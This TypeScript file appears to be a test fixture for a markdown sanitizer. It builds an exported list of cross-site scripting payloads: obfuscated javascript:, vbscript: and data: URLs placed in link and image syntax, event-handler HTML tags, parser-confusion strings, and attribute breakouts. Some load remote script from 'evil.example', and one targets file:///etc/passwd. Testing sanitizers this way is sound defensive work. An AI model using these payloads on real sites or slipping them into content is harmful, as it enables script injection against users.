const script = 'alert(1)'

const addresses = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `javascript&colon;${script}`,
  `&#106;avascript:${script}`,
  `&#x6A;&#x61;vascript:${script}`,
  `java%0ascript:${script}`,
  `javascript://example.com/%0a${script}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${script}>`,
  `blob:https://example.com/1`,
  `file:///etc/passwd`,
  `x:${script}`,
]

const places = [
  (address: string) => `[click](${address})`,
  (address: string) => `[click](<${address}>)`,
  (address: string) => `![look](${address})`,
  (address: string) => `[click][here]\n\n[here]: ${address}`,
]

const elements = [
  `<script>${script}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror="${script}"/>`,
  `<img/src=x/onerror=${script}>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<body onload=${script}>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<a href="javascript:${script}">click</a>`,
  `<a href="x" onclick="${script}">click</a>`,
  `<form action="javascript:${script}"><button>go</button></form>`,
  `<button formaction="javascript:${script}">go</button>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}></select>`,
  `<textarea autofocus onfocus=${script}></textarea>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<details open ontoggle=${script}>`,
  `<marquee onstart=${script}>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<style>@import 'javascript:${script}';</style>`,
  `<div style="background:url(javascript:${script})">x</div>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${script}">`,
  `<base href="https://evil.example/">`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  `<!--><img src=x onerror=${script}>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
]

const escapes = [
  `[a](https://example.com "\\" onmouseover=${script} x=\\"")`,
  `![" onerror="${script}](https://img.example.com/a.png)`,
  `| <img src=x onerror=${script}> |\n|---|\n| \`<script>${script}</script>\` |`,
  `\`\`\`html onload=${script}\n<script>${script}</script>\n\`\`\``,
  `<https://example.com/"onmouseover="${script}>`,
]

export const payloads = [
  ...places.flatMap((place) => addresses.map((address) => place(address))),
  ...elements,
  ...escapes,
]
